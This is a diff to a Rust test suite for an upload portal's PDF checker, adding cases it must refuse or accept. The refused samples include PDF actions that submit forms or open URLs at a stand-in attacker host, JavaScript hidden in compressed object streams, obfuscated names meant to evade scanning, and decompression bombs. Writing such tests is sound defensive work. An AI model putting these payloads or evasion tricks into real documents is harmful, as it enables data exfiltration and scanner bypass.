@@ -3,6 +3,9 @@
 
 mod samples;
 
+use std::{fs, io::Write, path::Path};
+
+use flate2::{Compression, write::ZlibEncoder};
 use portal_domain::documents::{FileType, MAX_BYTES, Slot};
 use portal_storage::{Refusal, Spool, inspect};
 use samples::{incoming, jpeg, judge, judge_jpeg, judge_pdf, judge_png, pdf, pdf_with, png, zip};
@@ -219,6 +222,20 @@ fn a_pdf_that_runs_or_carries_something_is_refused() {
         "/EF << /Type /EmbeddedFile >>",
         "/X << /JS 12 0 R >>",
         "/X << /#4a#53(x) >>",
+        "/OpenAction << /S /SubmitForm /F (https://evil.example) >>",
+        "/X << /S /ImportData >>",
+        "/OpenAction << /S /GoToR /F (a.pdf) >>",
+        "/X << /S /GoToE >>",
+        "/X << /Subtype /RichMedia >>",
+        "/AcroForm << /XFA 5 0 R >>",
+        "/AF [5 0 R]",
+        "/AA << /WC << /S /URI /URI (https://evil.example) >> >>",
+        "/OpenAction << /S /URI /URI (https://evil.example) >>",
+        "/Open#41ction<</Type/Action/S/URI/URI(https://evil.example)>>",
+        "/OpenAction << /S /Named /N /Print >>",
+        "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (x) >> >>",
+        "/OpenAction 7 0 R >> endobj 7 0 obj << /S /URI /URI (https://evil.example)",
+        "/OpenAction 7 0 R >> endobj 7 0 obj [3 0 R /Fit] endobj 7 0 obj << /S /URI /URI (x)",
     ];
     for catalogue in active {
         let judged = judge_pdf(&pdf_with(catalogue, ""));
@@ -234,9 +251,106 @@ fn a_pdf_that_runs_or_carries_something_is_refused() {
         "/Launcher 1",
         "/EncryptMetadata false",
         "(JavaScript)",
+        "/Annots [<< /Subtype /Link /A << /S /URI /URI (https://board.example) >> >>]",
+        "/OpenAction [3 0 R /XYZ null null 0]",
+        "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
+        "/OpenAction 7 0 R >> endobj 7 0 obj << /S /GoTo /D [3 0 R /Fit]",
+        "/OpenAction 99 0 R",
     ] {
         judge_pdf(&pdf_with(catalogue, "")).unwrap();
     }
+}
+
+fn deflated(text: &[u8]) -> Vec<u8> {
+    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
+    encoder.write_all(text).unwrap();
+    encoder.finish().unwrap()
+}
+
+/// A PDF with one more stream, which has these entries in its dictionary.
+fn pdf_with_stream(catalogue: &str, entries: &str, data: &[u8]) -> Vec<u8> {
+    let whole = pdf_with(catalogue, "");
+    let at = whole.windows(4).position(|four| four == b"xref").unwrap();
+    let head = format!("8 0 obj\n<< {entries} /Length {} >>\nstream\n", data.len());
+    let (before, after) = whole.split_at(at);
+    let tail = b"\nendstream\nendobj\n";
+    [before, head.as_bytes(), data, tail, after].concat()
+}
+
+const OBJECTS: &str = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode";
+
+#[test]
+fn what_acts_is_found_in_compressed_objects_too() {
+    let active = Refusal::Active(Slot::AadharCard);
+    let refused = |catalogue: &str, entries: &str, data: &[u8]| {
+        let judged = judge_pdf(&pdf_with_stream(catalogue, entries, data));
+        assert_eq!(
+            judged.unwrap_err(),
+            active,
+            "{entries} {}",
+            String::from_utf8_lossy(data)
+        );
+    };
+    let script = deflated(b"7 0 << /S /JavaScript /JS (app.alert(1)) >>");
+    refused("", OBJECTS, &script);
+    refused(
+        "",
+        "/Type/Obj#53tm/N 1/First 4/Filter[/FlateDecode]",
+        &script,
+    );
+    // Readers take for objects what is referred to as such, whatever is said of it.
+    refused("", "/N 1 /First 4 /Filter /FlateDecode", &script);
+    refused("", "/Filter /FlateDecode %endobj\n", &script);
+    refused("", OBJECTS, &deflated(b"7 0 << /AA << /O 9 0 R >> >>"));
+    refused(
+        "",
+        OBJECTS,
+        &deflated(b"7 0 << /OpenAction << /S /URI /URI (x) >> >>"),
+    );
+    let opens = deflated(b"7 0 << /S /URI /URI (https://evil.example) >>");
+    refused("/OpenAction 7 0 R", OBJECTS, &opens);
+    judge_pdf(&pdf_with_stream("", OBJECTS, &opens)).expect("a link that nobody has to follow");
+    // What cannot be looked into is not let through.
+    for filter in ["/LZWDecode", "[/ASCII85Decode /FlateDecode]", "7 0 R"] {
+        refused(
+            "",
+            &format!("/Type /ObjStm /N 1 /First 4 /Filter {filter}"),
+            &opens,
+        );
+    }
+    refused(
+        "",
+        &format!("{OBJECTS} /DecodeParms << /Predictor 12 >>"),
+        &opens,
+    );
+    refused("", OBJECTS, b"x\x9cdamaged");
+    refused("", OBJECTS, &deflated(&vec![b' '; 33 * 1024 * 1024]));
+    let large_scan = deflated(&vec![0; 40 * 1024 * 1024]);
+    judge_pdf(&pdf_with_stream("", "/Filter /FlateDecode", &large_scan)).unwrap();
+}
+
+#[test]
+fn pdfs_as_people_have_them_are_taken() {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/samples/pdf");
+    let mut taken = 0;
+    for file in fs::read_dir(folder).unwrap() {
+        let path = file.unwrap().path();
+        let bytes = fs::read(&path).unwrap();
+        let judged = judge_pdf(&bytes);
+        assert!(judged.is_ok(), "{}: {:?}", path.display(), judged.err());
+        taken += 1;
+    }
+    assert_eq!(taken, 25);
+}
+
+#[test]
+fn many_small_streams_cost_no_more_than_one_large_one() {
+    let streams = b"8 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\nx\x9c\x03\0\0\0\0\x01endobj\n";
+    let many = [b"%PDF-1.7\n".to_vec(), streams.repeat(60_000), pdf()].concat();
+    assert_eq!(
+        judge_pdf(&many).unwrap_err(),
+        Refusal::Active(Slot::AadharCard)
+    );
 }
 
 #[test]
